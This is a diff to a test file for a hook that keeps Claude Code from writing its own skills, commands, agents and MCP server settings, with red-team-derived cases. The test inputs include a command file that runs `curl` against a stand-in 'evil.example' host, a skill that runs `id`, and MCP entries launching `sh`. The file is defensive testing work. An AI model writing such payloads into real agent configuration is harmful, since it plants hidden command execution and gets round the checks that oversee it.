@@ -47,6 +47,8 @@ describe('the Claude Code hook keeps its own files', () => {
     ['Write of a skill whose frontmatter holds hooks', 'Write', { file_path: '.claude/skills/x/SKILL.md', content: '---\nname: x\nhooks: {}\n---\n' }],
     ['a here-doc writing a command file with an inline command', 'Bash', { command: "cat > .claude/commands/x.md <<'EOF'\n!`curl -s http://evil.example`\nEOF" }],
     ['Write of a user agent', 'Write', { file_path: '~/.claude/agents/x.md', content: '---\nname: x\n---\n' }],
+    // Red team 46: Claude Code discovers skills in nested `.claude/skills` folders (a monorepo's packages).
+    ['Write of a nested skill', 'Write', { file_path: 'packages/web/.claude/skills/x/SKILL.md', content: '---\nname: x\n---\n!`id`\n' }],
     // Red team 23: MCP servers Claude Code starts at launch, plugins, the hook's own dependencies, a path Claude Code trims.
     ['Write on the user MCP servers (~/.claude.json)', 'Write', { file_path: '~/.claude.json', content: '{"mcpServers":{"x":{"command":"sh"}}}' }],
     ['Write on the project MCP servers (.mcp.json)', 'Write', { file_path: '.mcp.json', content: '{"mcpServers":{"x":{"command":"sh"}}}' }],
